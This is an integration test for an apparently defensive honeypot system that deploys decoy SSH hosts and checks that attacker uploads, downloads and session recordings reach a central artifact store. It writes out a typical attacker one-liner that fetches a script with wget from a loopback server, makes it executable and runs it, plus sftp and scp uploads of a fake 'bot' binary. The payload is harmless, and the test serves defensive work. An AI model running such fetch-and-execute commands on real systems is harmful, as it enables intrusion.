import { execFile, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmod, readFile, stat, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventually } from '../../helpers/eventually';
import { sshPasswordFlags } from '../../helpers/ssh-client';
import { makeTmpDir } from '../../helpers/tmp-dir';
import { freePort, loopbackBlock, settled, startAgent, startMaster, type TestAgent, type TestMaster } from './harness';

/**
 * Done-when of #22 item 2 end to end: a real agent runs a decky whose ssh really fetches (loopback
 * allowed by the test-only DECNET_FETCH_ALLOW_LOOPBACK in the agent's environment, inherited by
 * its decky host); an OpenSSH session runs the attack script, sftp and scp upload files; every
 * payload reaches the master's artifact store with the right SHA-256 and comes back from
 * artifacts.download as a zip that Info-ZIP's unzip opens with the password `infected`.
 */
const run = promisify(execFile);
const ip = loopbackBlock();
const [DECKY, ATTACKER] = [ip(21), ip(66)];
const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const payload = '#!/bin/sh\n# stage two\necho installed\n';
let tmp: Awaited<ReturnType<typeof makeTmpDir>>;
let m: TestMaster;
let agent: TestAgent;
let server: http.Server;
let port = 0;

const env = () => ({
  ...process.env,
  SSH_ASKPASS: join(tmp.dir, 'askpass'),
  SSH_ASKPASS_REQUIRE: 'force',
  DISPLAY: ':0',
});
function client(cmd: string, args: string[], input = ''): Promise<{ code: number | null; out: string }> {
  const child = spawn(cmd, [...sshPasswordFlags, '-o', `BindAddress=${ATTACKER}`, ...args], {
    env: env(),
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let out = '';
  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr.on('data', (d: Buffer) => (out += d.toString()));
  child.stdin.end(input);
  return new Promise((resolve) => child.on('close', (code) => resolve({ code, out })));
}

beforeAll(async () => {
  tmp = await makeTmpDir('decnet-artifacts-it-');
  await writeFile(join(tmp.dir, 'askpass'), "#!/bin/sh\necho 'toor'\n");
  await chmod(join(tmp.dir, 'askpass'), 0o755);
  server = http.createServer((req, res) => res.end(req.url === '/x.sh' ? payload : 'other'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  const agentPort = await freePort();
  m = await startMaster({ dataDir: join(tmp.dir, 'master'), agentPort });
  agent = await startAgent(m, {
    root: tmp.dir,
    name: 'worker-artifacts',
    ip: ip(1),
    agentPort,
    env: { DECNET_FETCH_ALLOW_LOOPBACK: '1' },
  });
  const res = await m.call('deckies.deploy', {
    services: ['ssh'],
    serviceConfig: { ssh: { users: 'root:toor', fetch: true } },
    deckies: [{ name: 'srv-artifacts', ip: DECKY }],
  });
  expect((await settled(m, res.lifecycleIds, 60_000)).map((r) => r.status)).toEqual(['succeeded']);
}, 180_000);
afterAll(async () => {
  await agent?.kill();
  await m?.stop();
  await new Promise((resolve) => server?.close(resolve));
  await tmp?.remove();
});

describe('captured payloads reach the master', () => {
  it('stores the attack script’s download, an sftp and an scp upload once each with the right SHA-256', async () => {
    const line = `uname -a; cd /tmp; wget http://127.0.0.1:${port}/x.sh; chmod +x x.sh; ./x.sh; crontab -l`;
    const r = await client('ssh', [`root@${DECKY}`, line]);
    expect(r.out).toContain('installed\n');
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1]), randomBytes(20_000)]);
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), randomBytes(3_000)]);
    await writeFile(join(tmp.dir, 'bot'), elf);
    await writeFile(join(tmp.dir, 'kit.zip'), zip);
    expect((await client('sftp', [`root@${DECKY}`], `put ${join(tmp.dir, 'bot')} /tmp/bot\n`)).code).toBe(0);
    expect((await client('scp', [join(tmp.dir, 'kit.zip'), `root@${DECKY}:/root/`])).code).toBe(0);

    const want = new Map([
      [sha(payload), { fileType: 'shell-script', channel: 'wget', path: '/tmp/x.sh' }],
      [sha(elf), { fileType: 'elf', channel: 'sftp', path: '/tmp/bot' }],
      [sha(zip), { fileType: 'zip', channel: 'sftp', path: '/root/kit.zip' }],
    ]);
    const list = await eventually(
      async () => {
        const { artifacts } = await m.call('artifacts.list', {});
        return [...want.keys()].every((h) => artifacts.some((a) => a.sha256 === h)) && artifacts;
      },
      { timeoutMs: 30_000, what: 'three artifacts on the master' },
    );
    expect(list).toHaveLength(3);
    for (const a of list) {
      const w = want.get(a.sha256)!;
      expect(a.fileType).toBe(w.fileType);
      expect(a.sightings[0]).toMatchObject({ decky: 'srv-artifacts', src: ATTACKER, channel: w.channel, path: w.path });
      const stored = join(tmp.dir, 'master', 'artifacts', `${a.sha256}.bin`);
      expect(sha(await readFile(stored))).toBe(a.sha256);
      expect((await stat(stored)).mode & 0o777).toBe(0o600);
    }
    const wgetSighting = list.find((a) => a.sha256 === sha(payload))!.sightings[0]!;
    expect(wgetSighting.source).toBe(`http://127.0.0.1:${port}/x.sh`);
    // The artifact event and the command event of the script share the session id.
    const events = (await m.call('events.list', { src: ATTACKER, limit: 200 })).events;
    const command = events.find((e) => e.kind === 'command' && e.data.command === line);
    expect(command?.data.session).toBe(wgetSighting.session);
    expect(events.some((e) => e.kind === 'artifact' && e.data.sha256 === sha(payload))).toBe(true);
  }, 120_000);

  it('downloads an artifact as a zip that unzip opens only with the password infected', async () => {
    const d = await m.call('artifacts.download', { sha256: sha(payload) });
    expect(d).toMatchObject({ fileName: `${sha(payload)}.zip`, password: 'infected' });
    const file = join(tmp.dir, d.fileName);
    await writeFile(file, Buffer.from(d.zipBase64, 'base64'));
    const { stdout } = await run('unzip', ['-P', 'infected', '-p', file, sha(payload)]);
    expect(stdout).toBe(payload);
    await expect(run('unzip', ['-P', 'wrong', '-p', file, sha(payload)])).rejects.toThrow();
    await expect(m.call('artifacts.download', { sha256: 'b'.repeat(64) })).rejects.toThrow(/NOT_FOUND|no artifact/);
  });

  it('ships an interactive session’s recording; recordings.get returns the cast, which artifacts.list leaves out', async () => {
    const r = await client('ssh', ['-tt', `root@${DECKY}`], 'echo replay-me\nexit\n');
    expect(r.out).toContain('replay-me');
    const rec = await eventually(
      async () => (await m.call('events.list', { src: ATTACKER, kind: 'recording', limit: 10 })).events[0],
      { timeoutMs: 30_000, what: 'recording event on the master' },
    );
    const sha256 = String(rec.data.sha256);
    const { cast } = await eventually(() => m.call('recordings.get', { sha256 }).catch(() => undefined), {
      timeoutMs: 30_000,
      what: 'recording stored on the master',
    });
    expect(sha(cast)).toBe(sha256);
    const lines = cast
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as unknown);
    expect(lines[0]).toMatchObject({ version: 2 });
    expect(
      (lines.slice(1) as [number, string, string][])
        .filter((e) => e[1] === 'i')
        .map((e) => e[2])
        .join(''),
    ).toBe('echo replay-me\nexit\n');
    const { artifacts } = await m.call('artifacts.list', {});
    expect(artifacts.some((a) => a.sha256 === sha256)).toBe(false);
    await expect(m.call('recordings.get', { sha256: sha(payload) })).rejects.toThrow(/no session recording/);
  }, 60_000);
});
